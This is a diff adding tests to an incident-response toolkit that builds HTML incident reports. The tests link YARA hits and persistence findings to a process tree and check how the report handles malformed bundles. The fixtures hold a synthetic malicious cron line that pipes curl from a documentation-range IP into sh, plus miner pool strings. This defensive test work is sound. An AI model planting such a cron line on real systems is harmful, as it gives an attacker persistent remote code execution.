@@ -3,12 +3,14 @@
 import json
 import re
 from pathlib import Path
+from typing import Any
 
 from irkit.evidence.reader import BundleReader
 from irkit.evidence.records import Finding
 from irkit.evidence.verify import verify_bundle
 from irkit.evidence.view import view_from_parts, view_from_reader
 from irkit.evidence.writer import EvidenceWriter
+from irkit.hunt.hits import MatchedString, YaraHit, hit_to_finding
 from irkit.report.html import (
     REPORT_MEMBER,
     build_report,
@@ -16,7 +18,16 @@ from irkit.report.html import (
     script_json,
     write_report_member,
 )
-from tests.reportbundles import SCRIPT_TITLE, XSS_CMDLINE, jsonl, process, scenario_bundle
+from irkit.report.incident import MAX_DEPTH, build_incident
+from irkit.report.summary import summarize
+from tests.reportbundles import (
+    SCRIPT_TITLE,
+    XSS_CMDLINE,
+    jsonl,
+    process,
+    scenario_bundle,
+    scenario_records,
+)
 
 DATA_BLOCK = re.compile(
     r'<script type="application/json" id="irkit-data">(.*?)</script>', re.DOTALL
@@ -115,3 +126,119 @@ def test_a_report_for_a_sealed_bundle_matches_the_one_from_its_view(tmp_path: Pa
     assert len(data["timeline"]["events"]) > 20
     assert data["summary"]["hosts"] == [view.label]
     assert data["findings"][0]["title"].startswith("Miner hiding")
+
+
+def test_the_incident_joins_each_finding_to_the_records_it_names() -> None:
+    """The lineage of a flagged process, its window, and evidence found by pid, persistence
+    entry and YARA hit, with findings made the way triage makes them (hit_to_finding)."""
+    records = scenario_records()
+    cron = records["records/persistence.jsonl"][0]
+    hit = YaraHit(
+        rule="Miner_Test",
+        namespace="miners",
+        severity="high",
+        description="synthetic",
+        target="pid:4242",
+        target_kind="process",
+        strings=[MatchedString("$pool", 0x7FFF0010, 16, "stratum+tcp://x")],
+        matches=1,
+        pid=4242,
+    )
+    records["records/hunts.jsonl"] = [hit]
+    records["records/findings.jsonl"] = [
+        hit_to_finding(hit),
+        Finding(title="cron persistence: /etc/crontab:12", severity="high", source="heuristic",
+                path="/etc/crontab", time=cron["mtime"]),
+    ]  # fmt: skip
+    view = view_from_parts(records)
+    summary = summarize([view])
+    incident = build_incident([view], summary.findings)
+    [(_host, [init])] = incident.trees
+    [sshd] = init.children
+    [miner] = sshd.children
+    assert (init.pid, sshd.pid, miner.pid) == (1, 812, 4242)
+    assert miner.flagged and not init.flagged
+    signals = {(s.kind, s.text): s.finding for s in miner.signals}
+    assert signals[("flag", "kernel-thread-imitation")] is None
+    yara_card = signals[("high", "YARA Miner_Test")]
+    assert yara_card is not None
+    assert summary.findings[yara_card]["title"] == "YARA Miner_Test on process pid:4242"
+    assert incident.window_text == ("2026-11-30T10:04:00.000000Z", "2026-11-30T10:05:00.123456Z")
+    evidence = {
+        f["title"]: [(e.label, e.value) for e in items]
+        for f, items in zip(summary.findings, incident.evidence, strict=True)
+    }
+    yara = evidence["YARA Miner_Test on process pid:4242"]
+    assert ("command line", XSS_CMDLINE) in yara
+    assert ("YARA $pool @ 0x7fff0010", "stratum+tcp://x") in yara
+    assert ("socket", "tcp 127.0.0.1:43210 → 203.0.113.7:3333 ESTABLISHED [pool-port]") in yara
+    assert evidence["cron persistence: /etc/crontab:12"] == [
+        ("cron line /etc/crontab:12", "*/5 * * * * root curl -fsSL http://203.0.113.7/x.sh | sh")
+    ]
+
+
+def test_a_parent_loop_or_an_endless_chain_ends_in_a_root() -> None:
+    """Parent links are the host's word: 10 ↔ 11 claim each other, 200 sits under a chain of
+    100 ancestors. Each still ends at a root, and the report is built."""
+    looped = [process(10, 11, "a", ["a"]), process(11, 10, "b", ["b"])]
+    chain = [process(100 + i, 100 + i - 1, f"p{i}", [f"p{i}"]) for i in range(1, 101)]
+    records = {"records/processes.jsonl": looped + chain}
+    records["records/findings.jsonl"] = [
+        Finding(title=f"miner {pid}", severity="high", source="test", pid=pid) for pid in (10, 200)
+    ]
+    view = view_from_parts(records)
+    summary = summarize([view])
+    [(_host, roots)] = build_incident([view], summary.findings).trees
+
+    def depth(node: Any) -> int:
+        return 1 + max((depth(child) for child in node.children), default=0)
+
+    assert {root.pid for root in roots} == {11, 200 - MAX_DEPTH + 1}
+    assert all(depth(root) <= MAX_DEPTH for root in roots)
+    assert "miner 200" in build_report([view]).decode()
+
+
+def test_without_a_serious_finding_there_is_no_window_and_no_tree() -> None:
+    view = view_from_parts(
+        {
+            "records/processes.jsonl": [process(5, 1, "cron", ["cron"])],
+            "records/findings.jsonl": [
+                Finding(title="noted", severity="low", source="test", pid=5, time="2026-01-01")
+            ],
+        }
+    )
+    data = embedded_data(build_report([view]).decode())
+    assert data["incident_window"] is None
+    summary = summarize([view])
+    assert build_incident([view], summary.findings).trees == []
+
+
+def test_records_of_the_wrong_shape_still_give_a_report() -> None:
+    """A hostile bundle's fields may hold anything: the incident is built around them."""
+    odd = {**process(9, 1, "x", ["x"], flags=3, user=None, uid=[1]), "cmdline": {"a": 1}}
+    init = {**process(1, 0, "init", ["init"]), "ppid": "0", "cmdline": "init"}
+    view = view_from_parts(
+        {
+            "records/p.jsonl": [odd, init],
+            "records/s.jsonl": [
+                {"type": "socket", "pid": 9, "pids": 5, "flags": "pool-port", "local_port": []},
+                {"type": "socket", "pid": None, "pids": [{"x": 1}, 9, "9"]},
+            ],
+            "records/y.jsonl": [
+                {"type": "yara-hit", "rule": "R", "strings": 7, "target": 9, "pid": 9},
+                {"type": "persistence", "source": None, "line": "x", "detail": "ExecStart"},
+            ],
+            "records/f.jsonl": [
+                {"type": "finding", "title": "YARA R on None 9", "severity": "high", "pid": 9,
+                 "rule": "R", "source": "yara", "time": "not a time"},
+                {"type": "finding", "title": "persistence: None", "severity": "critical",
+                 "path": None, "pid": "9"},
+            ],
+        }
+    )  # fmt: skip
+    summary = summarize([view])
+    incident = build_incident([view], summary.findings)
+    [(_host, [root])] = incident.trees
+    assert root.pid == 1 and root.children[0].pid == 9
+    assert incident.window_text == (odd["start_time"], odd["start_time"])
+    assert "YARA R on None 9" in build_report([view]).decode()
